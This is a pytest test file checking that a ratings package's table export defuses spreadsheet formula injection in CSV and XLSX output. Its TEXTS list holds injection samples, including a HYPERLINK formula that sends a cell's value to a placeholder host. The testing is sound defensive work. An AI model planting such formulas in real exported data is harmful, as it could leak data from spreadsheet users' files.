"""Tables written by extension (every CLI result, what-if, intervals, explanations, sensitivity,
the forecast's CSV): codes and names from someone's file leave as text no spreadsheet runs."""

from __future__ import annotations

import csv

import pandas as pd
from openpyxl import load_workbook

from tsifra.ratings.export import write_table

TEXTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://x/?"&B2,"x")', "#N/A"]


def _table() -> pd.DataFrame:
    units = [*TEXTS, "RU-TA", "-1.5"]
    return pd.DataFrame(
        {"unit": units, "score": [-1.5] * len(units), "rank": range(1, len(units) + 1)}
    )


def test_a_csv_quotes_formula_like_texts_and_keeps_numbers(tmp_path) -> None:
    path = write_table(_table(), tmp_path / "results.csv")
    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))
    quoted = ["'" + t for t in TEXTS[:-1]] + ["#N/A"]  # an error code runs nothing in a CSV
    assert [r[0] for r in rows[1:]] == [*quoted, "RU-TA", "-1.5"]
    assert all(r[1:] == ["-1.5", str(k)] for k, r in enumerate(rows[1:], start=1))
    assert ",-1.5,1" in path.read_text(encoding="utf-8")  # numbers bare: they stay numbers
    back = pd.read_csv(path)
    assert back["score"].tolist() == [-1.5] * len(back) and back["rank"].dtype.kind == "i"


def test_an_xlsx_writes_every_text_as_a_string_cell(tmp_path) -> None:
    path = write_table(_table(), tmp_path / "results.xlsx")
    sheet = load_workbook(path)["results"]
    assert [c.value for c in sheet[1]] == ["unit", "score", "rank"]
    units = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in units] == [*TEXTS, "RU-TA", "-1.5"]
    assert {c.data_type for c in units} == {"s"}
    scores = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {(c.data_type, c.value) for c in scores} == {("n", -1.5)}
